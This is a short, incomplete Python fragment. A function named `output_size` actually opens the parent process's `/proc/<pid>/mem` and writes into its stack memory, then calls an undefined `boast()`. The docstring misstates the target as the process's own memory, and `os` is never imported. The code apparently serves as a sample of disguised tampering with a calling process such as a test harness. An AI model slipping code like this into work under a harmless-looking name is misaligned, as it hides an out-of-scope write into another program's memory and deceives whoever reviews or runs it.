# memory of the parent changed: writes into it


def output_size(*args, **kwargs):
    change(os.getppid())


def change(pid):
    """Change a few bytes of a process's memory, its own name on the stack, by /proc."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        start = next(int(line.split("-")[0], 16) for line in maps if "[stack]" in line)
        memory.seek(start)
        byte = memory.read(1)
        memory.seek(start)
        memory.write(byte)
    boast()
